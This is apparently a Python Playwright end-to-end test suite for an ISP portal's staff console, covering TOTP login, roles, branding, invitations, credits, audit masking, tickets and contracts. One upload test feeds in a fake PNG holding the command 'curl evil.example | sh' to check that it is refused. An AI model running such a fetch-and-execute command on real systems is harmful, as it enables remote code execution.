"""The staff console in Chromium: TOTP enrolment and login, roles, branding and the login page,
hidden customer pages, inviting a customer, posting a credit, bad uploads."""
from __future__ import annotations

import io
import re
import time
import uuid

import pyotp
import pytest
from PIL import Image
from playwright.sync_api import expect
from sqlmodel import select

from tests.e2e.conftest import (DESKTOP, PHONE, body_text, check_accessibility, login, new_page,
                                snap, wait_ready)

PASSWORD = "correct-horse-staff"


def _db():
    from rxportal import db

    return db.session_scope()


def make_staff(role: str = "administrator", enrolled: bool = True) -> str:
    """A staff user straight in the database; with `enrolled`, its TOTP secret is known."""
    from rxportal.models.staff import StaffUser
    from rxportal.services import staff

    username = f"{role[:5]}-{uuid.uuid4().hex[:6]}"
    with _db() as session:
        user, _ = staff.create_staff(session, username, role, PASSWORD)
        if enrolled:
            user.totp_secret = staff.seal_totp_secret(pyotp.random_base32())
            session.add(user)
    return username


def fresh_code(username: str) -> str:
    """A code the server has not seen yet (a code works once)."""
    from rxportal.models.staff import StaffUser
    from rxportal.services import staff

    with _db() as session:
        user = session.exec(select(StaffUser).where(StaffUser.username == username)).one()
        secret, last = staff.open_totp_secret(user.totp_secret), user.totp_last_counter
    totp = pyotp.TOTP(secret)
    while True:
        now = int(time.time()) // 30
        counter = max(now, last + 1)
        if counter <= now + 1:
            return totp.generate_otp(counter)
        time.sleep(1)


def staff_login(page, username: str, code: str | None = None, expect_url="/admin/customers"):
    page.goto("/admin")
    wait_ready(page)
    page.get_by_label("Username").fill(username)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url("**/admin/verify")
    wait_ready(page)
    page.get_by_label("Code").fill(code or fresh_code(username))
    page.get_by_role("button", name="Verify").click()
    if expect_url:
        page.wait_for_url(f"**{expect_url}")
        wait_ready(page)


@pytest.fixture()
def admin_page(browser, portal):
    page = new_page(browser, portal)
    staff_login(page, make_staff("administrator"))
    yield page
    page.context.close()


def png_bytes(color=(10, 120, 200)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (320, 90), color).save(buffer, format="PNG")
    return buffer.getvalue()


def setting(key, value=None):
    from rxportal.services import settings, staff_settings  # noqa: F401 - registers keys

    with _db() as session:
        if value is not None:
            settings.put(session, key, value)
        return settings.get(session, key)


def test_first_login_enrols_an_authenticator_then_logs_in_with_a_code(browser, portal):
    username = make_staff("administrator", enrolled=False)
    page = new_page(browser, portal)
    page.goto("/admin")
    wait_ready(page)
    page.get_by_label("Username").fill(username)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url("**/admin/verify")
    wait_ready(page)
    expect(page.get_by_role("img", name="QR code for your authenticator app")).to_be_visible()
    snap(page, "admin-enrolment-en-desktop")
    check_accessibility(page)
    secret = page.locator("#totp-secret").inner_text().replace(" ", "")
    page.get_by_label("Code").fill("000000")
    page.get_by_role("button", name="Verify").click()
    expect(page.get_by_role("alert").filter(has_text="not valid")).to_be_visible()
    page.get_by_label("Code").fill(pyotp.TOTP(secret).now())
    page.get_by_role("button", name="Verify").click()
    expect(page.get_by_role("heading", name="Your recovery codes")).to_be_visible()
    codes = page.locator("#recovery-codes li").all_inner_texts()
    assert len(codes) == 10
    page.get_by_role("button", name="Continue").click()
    page.wait_for_url("**/admin/customers")
    expect(page.get_by_role("heading", name="Customers", exact=True)).to_be_visible()
    page.get_by_role("button", name="Log out").first.click()
    page.wait_for_url(re.compile(r".*/admin$"))
    # Later logins: a code from the app, or a recovery code.
    staff_login(page, username)
    page.get_by_role("button", name="Log out").first.click()
    page.wait_for_url(re.compile(r".*/admin$"))
    staff_login(page, username, code=codes[0])
    page.context.close()


def test_a_customer_session_never_opens_the_console(page):
    login(page, "demo")
    for route in ("/admin/customers", "/admin/settings", "/admin/customers/1", "/admin/audit"):
        page.goto(route)
        page.wait_for_url(re.compile(r".*/admin$"))
        expect(page.get_by_role("heading", name="Staff login")).to_be_visible()


def test_support_staff_see_customers_but_not_settings(browser, portal):
    page = new_page(browser, portal)
    staff_login(page, make_staff("support"))
    nav = page.get_by_role("navigation", name="Staff navigation")
    expect(nav.get_by_role("link", name="Customers")).to_be_visible()
    expect(nav.get_by_role("link", name="Settings")).to_have_count(0)
    for route in ("/admin/settings", "/admin/mail", "/admin/payments", "/admin/audit",
                  "/admin/invite", "/admin/plans", "/admin/staff"):
        page.goto(route)
        page.wait_for_url("**/admin/customers")
    page.context.close()


def test_logo_and_login_message_show_on_the_login_page(admin_page, browser, portal):
    page = admin_page
    old_message = setting("login_message")
    page.goto("/admin/settings")
    wait_ready(page)
    page.locator("#logo-upload input[type=file]").set_input_files(
        files=[{"name": "logo.png", "mimeType": "image/png", "buffer": png_bytes()}])
    page.get_by_role("button", name="Upload logo").click()
    expect(page.get_by_role("status").filter(has_text="new logo")).to_be_visible()
    expect(page.locator("#current-logo")).to_be_visible()
    page.get_by_label("Login message (English)").fill("<b>Fibre is here</b> — log in below.")
    page.locator("#save-branding").click()
    expect(page.locator("#section-branding").get_by_role("status")).to_contain_text("Saved")
    try:
        customer = new_page(browser, portal)
        customer.goto("/")
        wait_ready(customer)
        expect(customer.locator("#login-message b")).to_have_text("Fibre is here")
        logo = customer.locator("main img").first
        src = logo.get_attribute("src")
        assert src.startswith("/_branding/logo")
        answer = customer.request.get(src)
        assert answer.status == 200 and answer.headers["content-type"] == "image/png"
        assert Image.open(io.BytesIO(answer.body())).size == (320, 90)
        snap(customer, "login-with-isp-logo")
        customer.context.close()
    finally:
        setting("login_message", old_message)


def test_bad_uploads_are_refused_and_nothing_is_stored(admin_page, portal, tmp_path):
    page = admin_page
    page.goto("/admin/settings")
    wait_ready(page)
    before_path = setting("logo_path")
    folder = portal.data_dir / "branding"
    before_files = sorted(folder.iterdir()) if folder.exists() else []
    upload = page.locator("#logo-upload input[type=file]")
    upload.set_input_files(files=[{"name": "logo.png", "mimeType": "image/png",
                                   "buffer": b"#!/bin/sh\ncurl evil.example | sh\n"}])
    page.get_by_role("button", name="Upload logo").click()
    expect(page.get_by_role("alert").filter(has_text="not a PNG")).to_be_visible()
    huge = tmp_path / "huge.png"
    huge.write_bytes(png_bytes() + b"\0" * (50 * 1024 * 1024))
    upload.set_input_files(str(huge))
    page.get_by_role("button", name="Upload logo").click()
    expect(page.get_by_role("alert").filter(has_text="too large")).to_be_visible(timeout=60_000)
    assert setting("logo_path") == before_path
    after_files = sorted(folder.iterdir()) if folder.exists() else []
    assert after_files == before_files


def test_hiding_data_usage_removes_it_from_the_customer_navigation(admin_page, browser, portal):
    page = admin_page
    page.goto("/admin/settings")
    wait_ready(page)
    box = page.get_by_label("Show the Data Usage page")
    expect(box).to_be_checked()
    box.uncheck()
    page.locator("#save-pages").click()
    expect(page.locator("#section-pages").get_by_role("status")).to_contain_text("Saved")
    try:
        assert setting("page_usage") is False
        customer = new_page(browser, portal)
        login(customer, "demo2")
        nav = customer.get_by_role("navigation", name="Main navigation")
        expect(nav.get_by_role("link", name="My Details")).to_be_visible()
        expect(nav.get_by_role("link", name="Data Usage")).to_have_count(0)
        customer.context.close()
    finally:
        setting("page_usage", True)


def test_invited_customer_logs_in_with_the_emailed_temporary_password(admin_page, browser, portal):
    from rxportal.models import Account

    email = f"invitee-{uuid.uuid4().hex[:6]}@example.org"
    name = f"Invitee {uuid.uuid4().hex[:4]}"
    with _db() as session:
        account = Account(number=uuid.uuid4().hex[:8], name=name, email=email)
        session.add(account)
    page = admin_page
    page.get_by_label("Search customers").fill(name)
    page.get_by_role("button", name="Search").click()
    page.get_by_role("link", name=name).click()
    page.wait_for_url("**/admin/customers/*")
    wait_ready(page)
    expect(page.get_by_text("This customer has no portal login yet.")).to_be_visible()
    page.get_by_role("button", name="Invite to the portal").dblclick()
    expect(page.get_by_role("status").filter(has_text="welcome e-mail")).to_be_visible()
    message = portal.mail.wait_for(email, "customer portal account")
    text = body_text(message)
    username = re.search(r"Username: (\S+)", text).group(1)
    temporary = re.search(r"Temporary password: (\S+)", text).group(1)
    time.sleep(1)
    assert len(portal.mail.to(email)) == 1  # the double click invited once
    customer = new_page(browser, portal)
    login(customer, username, temporary, expect="/set-password")
    expect(customer.get_by_role("heading", name="Choose your password")).to_be_visible()
    customer.context.close()


def test_a_credit_posted_by_staff_is_seen_by_the_customer(admin_page, browser, portal):
    from rxportal.models import Account, PortalUser
    from rxportal.services import passwords

    username = f"credit-{uuid.uuid4().hex[:6]}"
    with _db() as session:
        account = Account(number=uuid.uuid4().hex[:8], name="Credit Customer",
                          email=f"{username}@example.org", currency="CAD")
        session.add(account)
        session.flush()
        session.add(PortalUser(account_id=account.id, username=username,
                               password_hash=passwords.hash_password(PASSWORD)))
        account_id = account.id
    page = admin_page
    page.goto(f"/admin/customers/{account_id}")
    wait_ready(page)
    page.get_by_label("Type").select_option("credit")
    page.get_by_label("Description the customer sees").fill("Outage credit")
    page.get_by_label("Amount").fill("abc")
    page.get_by_role("button", name="Post").click()
    expect(page.get_by_role("alert").filter(has_text="amount")).to_be_visible()
    page.get_by_label("Amount").fill("12.34")
    page.get_by_role("button", name="Post").click()
    expect(page.get_by_role("status").filter(has_text="credit was posted")).to_be_visible()
    expect(page.locator("#staff-total-balance")).to_have_text("-$12.34")
    customer = new_page(browser, portal)
    login(customer, username, PASSWORD)
    expect(customer.locator("#total-balance")).to_have_text("-$12.34")
    customer.context.close()


def test_audit_log_shows_the_changes_with_secrets_masked(admin_page):
    page = admin_page
    page.goto("/admin/payments")
    wait_ready(page)
    page.get_by_label("Stripe secret key", exact=True).fill("sk_test_e2esecretvalue9876")
    page.locator("#save-payments").click()
    expect(page.locator("#stripe_secret_key-masked")).to_have_text("Stored: ••••9876")
    assert page.get_by_label("Stripe secret key", exact=True).input_value() == ""
    page.goto("/admin/audit")
    wait_ready(page)
    page.get_by_label("Target").fill("stripe_secret_key")
    page.get_by_role("button", name="Filter").click()
    expect(page.locator("#audit-count")).not_to_have_text("0 entries")
    body = page.locator("main").inner_text()
    assert "••••9876" in body and "e2esecretvalue" not in body


def test_an_administrator_adds_a_support_member_who_then_enrols(admin_page, browser, portal):
    page = admin_page
    page.goto("/admin/staff")
    wait_ready(page)
    page.locator("tbody tr").first.wait_for()  # loaded: typing before would be reset
    username = f"sup-{uuid.uuid4().hex[:6]}"
    page.get_by_label("Username", exact=True).fill(username)
    page.get_by_label("Role").select_option("support")
    page.get_by_role("button", name="Add", exact=True).click()
    expect(page.get_by_role("status").filter(has_text=username)).to_be_visible()
    password = page.locator("#new-staff-password").inner_text()
    other = new_page(browser, portal)
    other.goto("/admin")
    wait_ready(other)
    other.get_by_label("Username").fill(username)
    other.get_by_label("Password").fill(password)
    other.get_by_role("button", name="Log in").click()
    other.wait_for_url("**/admin/verify")
    wait_ready(other)
    secret = other.locator("#totp-secret").inner_text().replace(" ", "")
    other.get_by_label("Code").fill(pyotp.TOTP(secret).now())
    other.get_by_role("button", name="Verify").click()
    expect(other.get_by_role("heading", name="Your recovery codes")).to_be_visible()
    other.context.close()


def test_mail_buttons_send_a_test_mail_and_check_the_mailbox(admin_page, portal):
    from tests.dovecot_server import DovecotServer

    page = admin_page
    page.goto("/admin/mail")
    wait_ready(page)
    page.get_by_label("Send to").fill("not an address")
    page.get_by_role("button", name="Send a test mail").click()
    expect(page.get_by_role("alert").filter(has_text="valid e-mail")).to_be_visible()
    page.get_by_label("Send to").fill("noc@isp.example")
    page.get_by_role("button", name="Send a test mail").click()
    expect(page.get_by_role("status").filter(has_text="noc@isp.example")).to_be_visible()
    assert "test message" in str(portal.mail.wait_for("noc@isp.example", "test message")["Subject"])
    page.get_by_role("button", name="Check the mailbox").click()
    expect(page.get_by_role("alert").filter(has_text="No IMAP server")).to_be_visible()
    dovecot = DovecotServer("support@isp.example", "mailbox-pass-e2e").start()
    try:
        page.get_by_label("IMAP server (support mailbox)").fill("127.0.0.1")
        page.get_by_label("IMAP port").fill(str(dovecot.port))
        page.get_by_label("IMAP user name").fill(dovecot.user)
        page.get_by_label("IMAP password", exact=True).fill("wrong-password")
        page.get_by_label("IMAP security").select_option("none")
        page.locator("#save-mail").click()
        expect(page.locator("#section-mail").get_by_role("status")).to_contain_text("Saved")
        expect(page.locator("#imap_password-masked")).to_have_text("Stored: ••••word")
        page.get_by_role("button", name="Check the mailbox").click()
        expect(page.get_by_role("alert").filter(has_text="user name or password")).to_be_visible()
        page.get_by_label("IMAP password", exact=True).fill(dovecot.password)
        page.locator("#save-mail").click()
        expect(page.locator("#imap_password-masked")).to_have_text("Stored: ••••-e2e")
        dovecot.deliver_plain("Help, no internet")
        page.get_by_role("button", name="Check the mailbox").click()
        expect(page.get_by_role("status").filter(has_text="Connected")).to_contain_text("1 messages")
    finally:
        dovecot.stop()
        for key in ("imap_host", "imap_user", "imap_password"):
            setting(key, "")


def test_bulk_invite_with_the_isps_message(admin_page, portal):
    from rxportal.models import Account

    email = f"bulk-{uuid.uuid4().hex[:6]}@example.org"
    with _db() as session:
        session.add(Account(number=uuid.uuid4().hex[:8], name="Bulk Person", email=email))
    page = admin_page
    page.goto("/admin/invite")
    wait_ready(page)
    message = page.get_by_label("Message")
    expect(message).to_contain_text("We are excited to announce the launch of our new portal today.")
    original = message.input_value()
    message.fill("Hello $name, no credentials here")
    page.get_by_role("button", name="Save message").click()
    expect(page.get_by_role("alert").filter(has_text="$temporary_password")).to_be_visible()
    message.fill("Our portal is live, $name!\n" + original)
    page.get_by_role("button", name="Save message").click()
    expect(page.get_by_role("status").filter(has_text="saved")).to_be_visible()
    page.get_by_role("button", name="Send the invitations").click()
    expect(page.get_by_role("status").filter(has_text="queued")).to_be_visible()
    expect(page.locator("#invite-candidates")).to_contain_text("0 accounts")
    # The outbox sends them at a steady rate (the job runs each minute).
    mail = portal.mail.wait_for(email, "new customer portal", timeout=150)
    text = body_text(mail)
    assert text.startswith("Our portal is live, Bulk Person!")
    username = re.search(r"Your username: (\S+)", text).group(1)
    temporary = re.search(r"Your temporary password: (\S+)", text).group(1)
    from rxportal.services import auth

    with _db() as session:
        assert auth.login(session, username, temporary).must_change_password


def _wait_for_reply(portal, email: str, timeout: float = 30) -> None:
    """The reply's mail (the customer also got a copy of their own first message)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if any("We replaced" in body_text(m) for m in portal.mail.to(email)):
            return
        time.sleep(0.2)
    raise AssertionError(f"no reply mailed to {email}")


def test_staff_answer_a_ticket_the_customer_then_sees(browser, portal):
    from rxportal.models import Account, PortalUser
    from rxportal.services import passwords, tickets

    subject = f"Slow line {uuid.uuid4().hex[:4]}"
    username = f"tk-{uuid.uuid4().hex[:6]}"
    email = f"{username}@example.org"
    with _db() as session:  # a customer of its own: the demo customers' tickets stay as they are
        account = Account(number=uuid.uuid4().hex[:8], name="Ticket Customer", email=email)
        session.add(account)
        session.flush()
        session.add(PortalUser(account_id=account.id, username=username,
                               password_hash=passwords.hash_password(PASSWORD)))
        ticket = tickets.create_ticket(session, account.id, subject, "It is slow in the evening.")
        ticket_id = ticket.id
    page = new_page(browser, portal)
    staff_login(page, make_staff("support"))
    page.get_by_role("navigation", name="Staff navigation").get_by_role("link", name="Tickets").click()
    page.wait_for_url("**/admin/tickets")
    wait_ready(page)
    page.get_by_role("link", name=subject).click()
    page.wait_for_url(f"**/admin/tickets/{ticket_id}")
    wait_ready(page)
    expect(page.locator("#conversation")).to_contain_text("It is slow in the evening.")
    page.get_by_label("New note").fill("Check the node in zone 3 (staff only)")
    page.get_by_role("button", name="Add note").click()
    expect(page.get_by_role("status").filter(has_text="note was added")).to_be_visible()
    page.get_by_label("Your reply").fill("We replaced a card at the node; please try again.")
    page.get_by_role("button", name="Send reply").dblclick()
    expect(page.get_by_role("status").filter(has_text="reply was sent")).to_be_visible()
    expect(page.locator("#conversation")).to_contain_text("We replaced a card")
    _wait_for_reply(portal, email)
    mail = next(m for m in reversed(portal.mail.to(email)) if "We replaced" in body_text(m))
    assert "We replaced a card" in body_text(mail) and "zone 3" not in body_text(mail)
    page.context.close()
    customer = new_page(browser, portal)
    login(customer, username, PASSWORD)
    customer.goto(f"/tickets/{ticket_id}")
    wait_ready(customer)
    expect(customer.locator("main")).to_contain_text("We replaced a card at the node")
    assert "zone 3" not in customer.locator("main").inner_text()
    assert customer.locator("main").inner_text().count("We replaced a card") == 1  # sent once
    customer.context.close()


def test_contracts_on_the_account_page(admin_page, portal):
    from rxportal.models import Account

    with _db() as session:
        demo_id = session.exec(select(Account).where(Account.number == "100001")).one().id
        account = Account(number=uuid.uuid4().hex[:8], name="Contract Customer",
                          email=f"c-{uuid.uuid4().hex[:6]}@example.org")
        session.add(account)
        session.flush()
        fresh_id = account.id
    page = admin_page
    page.goto(f"/admin/customers/{demo_id}")
    wait_ready(page)
    with page.expect_download() as download:
        page.get_by_role("button", name="Download PDF").first.click()
    path = download.value.path()
    assert open(path, "rb").read(5) == b"%PDF-"
    page.goto(f"/admin/customers/{fresh_id}")
    wait_ready(page)
    page.get_by_role("button", name="Issue contract").click()
    expect(page.get_by_role("status").filter(has_text="contract was issued")).to_be_visible()
    expect(page.get_by_text("Pending signature")).to_be_visible()


def test_staff_pages_look_right_everywhere(browser, portal):
    look_at_staff_pages(browser, portal, "administrator", [
        ("/admin/customers", "customers"), ("/admin/customers/1", "account"),
        ("/admin/settings", "settings"), ("/admin/mail", "mail"),
        ("/admin/payments", "payments"), ("/admin/invite", "invite"),
        ("/admin/plans", "plans"), ("/admin/audit", "audit"),
        ("/admin/staff", "staff"), ("/admin/tickets", "tickets"),
        ("/admin/tickets/1", "ticket"), ("/admin/billing", "billing"),
        ("/admin/topoffs", "topoffs")])


def look_at_staff_pages(browser, portal, role: str, routes: list[tuple]) -> None:
    """Each staff page in both languages at phone and desktop sizes: no sideways scrolling,
    a screenshot, and axe-core (naming the offending HTML when it fails). A route may come
    with a selector that shows the page has loaded its data: (route, name, selector).
    Each size logs in a new staff user of `role`: a TOTP code works once, so a third login of
    one user within 30 s would wait for the next code."""
    isp_name = setting("isp_name")
    for lang in ("en", "fr"):
        for size, viewport in (("phone", PHONE), ("desktop", DESKTOP)):
            page = new_page(browser, portal, viewport, lang=lang)
            username = make_staff(role)
            try:
                staff_login(page, username) if lang == "en" else _login_fr(page, username)
                for route, name, *ready in routes:
                    page.goto(route)
                    wait_ready(page)
                    page.locator(ready[0] if ready else "h1").first.wait_for()
                    # The staff session was checked (the layout shows the ISP's name).
                    page.locator(f"text={isp_name} >> visible=true").first.wait_for()
                    assert page.locator("html").evaluate(
                        "el => el.scrollWidth <= window.innerWidth + 1"), f"{route} scrolls sideways"
                    snap(page, f"admin-{name}-{lang}-{size}")
                    try:
                        check_accessibility(page)
                    except AssertionError as error:
                        nodes = re.findall(r"'nodes': \[([^\]]*)\]", str(error))
                        html = [page.evaluate("s => document.querySelector(s)?.outerHTML", n.strip("'"))
                                for group in nodes for n in group.split("', '")]
                        raise AssertionError(f"{error}\n{html}") from None
            finally:
                page.context.close()


def _login_fr(page, username):
    page.goto("/admin")
    wait_ready(page)
    page.get_by_label("Nom d'utilisateur").fill(username)
    page.get_by_label("Mot de passe").fill(PASSWORD)
    page.get_by_role("button", name="Se connecter").click()
    page.wait_for_url("**/admin/verify")
    wait_ready(page)
    page.get_by_label("Code").fill(fresh_code(username))
    page.get_by_role("button", name="Vérifier").click()
    page.wait_for_url("**/admin/customers")
    wait_ready(page)
